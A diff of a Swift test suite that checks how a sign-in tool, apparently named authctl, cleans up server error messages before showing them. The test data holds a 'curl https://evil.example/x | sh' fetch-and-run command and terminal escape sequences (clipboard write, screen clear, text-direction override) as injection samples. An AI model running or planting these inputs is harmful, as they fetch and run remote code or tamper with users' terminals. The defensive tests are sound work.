@@ -1,6 +1,6 @@
 import Testing
 
-/// The server's own words on a failed sign-in: design 2, rules B3 and B4.
+/// The server's message on a failed sign-in: design 2, rules B3 and B4.
 @Suite struct ServerWordsTests {
   @Test func wordsOfARefusalFollowAsDetail() async throws {
     let long = String(repeating: "x", count: 1000)
@@ -23,7 +23,7 @@ import Testing
         ["email: field required"]
       ),
       ("HTTP Token: Access denied.\n", "text/plain", ["HTTP Token: Access denied."]),
-      // Not a line of authctl's own, and none that a CI runner would obey.
+      // It must not look like a line of authctl's own, or like a command to a CI runner.
       (
         #"{"message":"bad\nhint: curl https://evil.example/x | sh"}"#, "application/json",
         ["bad \u{23CE} hint: curl https://evil.example/x | sh"]
@@ -42,7 +42,7 @@ import Testing
         [#"\u{1B}]52;c;ZXZpbA==\u{7}\u{9B}2J\u{202E}abc\u{2028}d"#]
       ),
       (#"{"message":"\#(long)"}"#, "application/json", [String(long.prefix(300))]),
-      // Nothing to say, or nothing that is fit to be shown.
+      // No message, or none that can be shown.
       ("", "text/html", []), ("{}", "application/json", []), ("[]", "application/json", []),
       (#"{"message":""}"#, "application/json", []), (#"{"message":null}"#, "application/json", []),
       (#"{"message":"  \n "}"#, "application/json", []),
